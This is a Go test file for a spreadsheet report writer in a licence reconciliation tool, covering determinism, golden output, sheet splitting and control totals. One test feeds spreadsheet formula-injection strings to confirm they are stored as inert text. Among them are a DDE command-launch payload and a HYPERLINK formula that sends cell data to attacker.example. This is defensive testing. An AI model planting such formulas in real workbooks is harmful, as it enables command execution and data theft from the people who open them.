package workbook_test

import (
	"archive/zip"
	"bytes"
	"flag"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"trueup/facts"
	"trueup/reconcile"
	"trueup/reports"
	"trueup/reports/reportstest"
	"trueup/reports/workbook"
)

var (
	update   = flag.Bool("update", false, "write the golden files")
	picture  = flag.String("picture", "", "render a workbook page by page as PNG files with this prefix")
	existing = flag.String("workbook", "", "the workbook that -picture renders; the sample's by default")
)

func build(t *testing.T, plan *reconcile.Plan) *reports.View {
	t.Helper()
	v, err := reports.Build(plan, reportstest.Run(), reportstest.Outcomes(), reportstest.Policy())
	if err != nil {
		t.Fatal(err)
	}
	return v
}

func write(t *testing.T, v *reports.View) ([]byte, workbook.Result) {
	t.Helper()
	var out bytes.Buffer
	result, err := workbook.Write(&out, v, t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return out.Bytes(), result
}

func save(t *testing.T, content []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "licences.xlsx")
	if err := os.WriteFile(path, content, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// TestSameBytes writes the same view several times.
func TestSameBytes(t *testing.T) {
	first, _ := write(t, build(t, reportstest.Plan(reportstest.Lines())))
	for range 5 {
		again, _ := write(t, build(t, reportstest.Plan(reportstest.Lines())))
		if !bytes.Equal(first, again) {
			t.Fatal("the same view gives other bytes")
		}
	}
}

// dump lists every cell of a workbook: sheet, place, type, value as stored, formula.
func dump(t *testing.T, content []byte) string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var out strings.Builder
	for _, sheet := range f.GetSheetList() {
		fmt.Fprintf(&out, "# %s\n", sheet)
		for _, c := range cellsOf(t, f, sheet) {
			fmt.Fprintf(&out, "%s\t%s\t%q", c.at, c.kind, c.value)
			if c.formula != "" {
				fmt.Fprintf(&out, "\t=%s", c.formula)
			}
			out.WriteByte('\n')
		}
	}
	return out.String()
}

type stored struct{ at, kind, value, formula string }

// cellsOf reads the cells that hold something.
func cellsOf(t *testing.T, f *excelize.File, sheet string) []stored {
	t.Helper()
	rows, err := f.GetRows(sheet, excelize.Options{RawCellValue: true})
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[excelize.CellType]string{excelize.CellTypeInlineString: "text", excelize.CellTypeSharedString: "text",
		excelize.CellTypeFormula: "text", excelize.CellTypeUnset: "number", excelize.CellTypeNumber: "number"}
	var list []stored
	for r, row := range rows {
		for c, value := range row {
			at, _ := excelize.CoordinatesToCellName(c+1, r+1)
			formula, err := f.GetCellFormula(sheet, at)
			if err != nil {
				t.Fatal(err)
			}
			if value == "" && formula == "" {
				continue
			}
			kind, err := f.GetCellType(sheet, at)
			if err != nil {
				t.Fatal(err)
			}
			list = append(list, stored{at, kinds[kind], value, formula})
		}
	}
	return list
}

func TestGolden(t *testing.T) {
	content, result := write(t, build(t, reportstest.Plan(reportstest.Lines())))
	if result.Failed != 0 || result.Rows != len(reportstest.Lines()) {
		t.Errorf("%+v", result)
	}
	got := dump(t, content)
	const path = "testdata/workbook.txt"
	if *update {
		if err := os.MkdirAll("testdata", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(want), got); diff != "" {
		t.Errorf("%s is not what is written now (-golden +now):\n%s", path, diff)
	}
}

// TestFormulasCarryTheirValue looks into the XML: a reader that does not compute needs the value beside the formula.
func TestFormulasCarryTheirValue(t *testing.T) {
	content, _ := write(t, build(t, reportstest.Plan(reportstest.Lines())))
	z, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	if err != nil {
		t.Fatal(err)
	}
	formulas := 0
	for _, part := range z.File {
		if !strings.HasPrefix(part.Name, "xl/worksheets/sheet") {
			continue
		}
		r, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		text, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		for _, cell := range regexp.MustCompile(`<c [^>]*><f>.*?</c>`).FindAll(text, -1) {
			formulas++
			if !bytes.Contains(cell, []byte("</f><v>")) {
				t.Errorf("%s: no value: %s", part.Name, cell)
			}
		}
	}
	if formulas < 80 {
		t.Errorf("only %d formulas", formulas)
	}
}

// TestHostileText shows that nothing that was read becomes a formula, a control character or a damaged file.
func TestHostileText(t *testing.T) {
	lines := reportstest.Hostile()
	content, result := write(t, build(t, reportstest.Plan(lines)))
	f, err := excelize.OpenReader(bytes.NewReader(content))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	want := map[string]string{ // by what was read
		"+1+1": "'+1+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\t=1+1": "'\t=1+1", "\r=1+1": "'\uFFFD=1+1",
		"\x00=1+1": "'\uFFFD=1+1", "'quoted": "'quoted", "1e10": "1e10", "0042": "0042", "TRUE": "TRUE",
		"_x0041_": "_x0041_", "line\nbreak": "line\nbreak", "\u202egnirts": "\uFFFDgnirts", "日本語 😀": "日本語 😀",
		"bell\x07 and escape\x1b[31m": "bell\uFFFD and escape\uFFFD[31m", `<b>&amp;</b> "q" ]]>`: `<b>&amp;</b> "q" ]]>`,
		" leading and trailing ": " leading and trailing ", `=cmd|' /C calc'!A0`: `'=cmd|' /C calc'!A0`,
		`=HYPERLINK("http://attacker.example/?"&A1,"click")`: `'=HYPERLINK("http://attacker.example/?"&A1,"click")`,
		"＝1+1": "'＝1+1", "'=1+1": "''=1+1",
	}
	for n, l := range lines {
		at := fmt.Sprintf("A%d", n+2)
		got, err := f.GetCellValue("Verdicts", at, excelize.Options{RawCellValue: true})
		if err != nil {
			t.Fatal(err)
		}
		if formula, _ := f.GetCellFormula("Verdicts", at); formula != "" {
			t.Errorf("%q is the formula %q", l.Person, formula)
		}
		if kind, _ := f.GetCellType("Verdicts", at); kind != excelize.CellTypeInlineString {
			t.Errorf("%q is of type %v", l.Person, kind)
		}
		if w, ok := want[l.Person]; ok && got != w {
			t.Errorf("%q stands as %q, want %q", l.Person, got, w)
		} else if !ok && !(strings.HasSuffix(got, "… [cut]") && len(got) < 33_000) {
			t.Errorf("%.20q… has %d bytes and ends in %q", l.Person, len(got), got[len(got)-10:])
		}
	}
	if result.Texts.Neutralised < 9 || result.Texts.Replaced < 3 || result.Texts.Cut < 1 {
		t.Errorf("counted %+v", result.Texts)
	}
	if !strings.Contains(dump(t, content), fmt.Sprintf("%d texts behind an apostrophe", result.Texts.Neutralised)) {
		t.Error("the cover does not say how many texts were neutralised")
	}
}

// TestManySheets splits the rows, and the control totals still tie over all sheets.
func TestManySheets(t *testing.T) {
	var out bytes.Buffer
	result, err := workbook.WriteSplit(&out, build(t, reportstest.Plan(reportstest.Lines())), t.TempDir(), 5)
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"Read me", "Summary", "Positions", "Verdicts", "Verdicts 2", "Verdicts 3", "Verdicts 4", "Actions",
		"Actions 2", "Actions 3", "Concurrent use", "Findings", "Control", "Terms"}
	if diff := cmp.Diff(want, result.Sheets); diff != "" {
		t.Error(diff)
	}
	if result.Failed != 0 {
		t.Errorf("%d checks fail", result.Failed)
	}
	if text := dump(t, out.Bytes()); !strings.Contains(text, "The rows stand on 4 sheets of at most 5 rows") {
		t.Error("the cover does not say that the rows are split")
	}
	controlHolds(t, office(t, save(t, out.Bytes()), "xlsx"), out.Bytes())
}

// TestEmpty writes a plan without a single row.
func TestEmpty(t *testing.T) {
	plan := reportstest.Plan(nil)
	plan.Guards, plan.Findings, plan.Positions, plan.Unplaced, plan.Totals.People = nil, nil, nil, nil, 0
	plan.Snapshot.Inputs, plan.Inputs = nil, nil
	v, err := reports.Build(plan, reconcile.Run{ID: "r", Started: facts.NoInstant, Finished: facts.NoInstant}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	content, result := write(t, v)
	if result.Failed != 0 {
		t.Errorf("%d checks fail", result.Failed)
	}
	controlHolds(t, office(t, save(t, content), "xlsx"), content)
}

// TestLyingTotals shows that the control sheet finds a plan whose totals are not those of its rows.
func TestLyingTotals(t *testing.T) {
	plan := reportstest.Plan(reportstest.Lines())
	plan.Totals.Verdicts[reconcile.Idle]++
	plan.Totals.Money[0].Exposure++
	content, result := write(t, build(t, plan))
	if result.Failed != 3 { // idle, the sum over verdicts, and the money
		t.Errorf("%d checks fail, want 3", result.Failed)
	}
	if !strings.Contains(dump(t, content), "3 of 48 checks FAIL") {
		t.Error("the sheet does not say so")
	}
}
